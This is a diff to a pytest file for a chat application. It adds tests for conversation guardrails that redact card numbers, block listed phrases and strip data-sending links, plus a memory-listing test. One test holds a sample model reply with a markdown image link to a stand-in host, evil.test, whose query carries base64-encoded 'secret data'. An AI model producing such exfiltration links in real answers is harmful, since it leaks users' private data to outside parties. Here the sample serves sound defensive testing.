@@ -5,6 +5,12 @@ from dataclasses import replace
 
 import pytest
 
+from agents.guardrails.conversation_guard import ConversationGuard
+from agents.guardrails.guardrails import Guardrails
+from agents.guardrails.policy import Policy, mode_actions
+from agents.guardrails.redaction_store import RedactionStore
+from agents.memory.entry import USER
+from agents.memory.store import MemoryStore
 from app.plain.repl import PlainChat
 from app.slash.parse import available
 from engine.api.errors import EngineUnavailable, ModelNotFound
@@ -34,7 +40,9 @@ class Answering(ToyClient):
 class Chat:
     """Runs the plain chat over a list of lines."""
 
-    def __init__(self, folder):
+    def __init__(self, folder, guard=None):
+        self.guard = guard
+        self.memory_file = None
         self.store = Store.open(folder / "c.db")
         self.client = Answering()
         self.resume = False
@@ -50,11 +58,23 @@ class Chat:
                 raise EOFError from None
 
         out = io.StringIO()
-        session = TreeSession(self.store, self.client, resume=self.resume)
-        chat = PlainChat(session, self.client, read=read, out=out, show_prompts=typed)
+        session = TreeSession(self.store, self.client, resume=self.resume, guard=self.guard)
+        chat = PlainChat(
+            session,
+            self.client,
+            read=read,
+            out=out,
+            show_prompts=typed,
+            memory_file=self.memory_file,
+        )
         self.succeeded = chat.run()
         session.close()
         return out.getvalue()
+
+
+def guard(folder, mode, **policy):
+    guardrails = Guardrails(Policy(*mode_actions(mode), **policy))
+    return ConversationGuard(lambda: guardrails, RedactionStore(folder / "redactions.db"))
 
 
 @pytest.fixture
@@ -392,3 +412,34 @@ def test_sampling_parameters_are_listed_set_checked_and_reset(chat):
     assert "This conversation sets no sampling parameters.\n" in shown
     temperatures = [request.sampling.temperature for request in chat.client.requests]
     assert temperatures == [0.7, 0.2]
+
+
+def test_typed_it_says_what_the_guardrails_removed_and_a_pipe_gets_the_answer_alone(tmp_path):
+    leak = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"
+    chat = Chat(tmp_path, guard=guard(tmp_path, "redact"))
+    chat.client.replies = [(leak, FinishReason.STOP), ("⟦CARD_1⟧ it is", FinishReason.STOP)]
+    shown = chat("hello", "my card is 4111 1111 1111 1111", typed=True)
+    assert "![x]([exfiltration removed])\n(guardrails: 1 address that sends data removed)" in shown
+    assert "(guardrails: 1 card number replaced before the model read it)" in shown
+    assert "4111 1111 1111 1111 it is" in shown
+    chat.client.replies = [(leak, FinishReason.STOP)]
+    assert chat("hello") == "![x]([exfiltration removed])\n"
+    chat.store.close()
+
+
+def test_a_blocked_answer_says_so(tmp_path):
+    chat = Chat(tmp_path, guard=guard(tmp_path, "check", blocklist=("secret plan",)))
+    chat.client.replies = [("the secret plan", FinishReason.STOP)]
+    assert chat("hello") == "the \n(ended by the guardrails)\n"
+    assert "not sent: it contains a blocked phrase" in chat("a secret plan")
+    chat.store.close()
+
+
+def test_memory_is_listed_and_forgotten(tmp_path):
+    chat = Chat(tmp_path)
+    with MemoryStore(tmp_path / "memory.db") as store:
+        key = store.store_fact("build", "make amber", scope=USER, origin="user").entry.id
+    chat.memory_file = tmp_path / "memory.db"
+    printed = chat("/memory", f"/memory forget {key}", "/memory search amber")
+    assert "  make amber\nForgot 1.\nNothing is remembered about that.\n" in printed
+    chat.store.close()
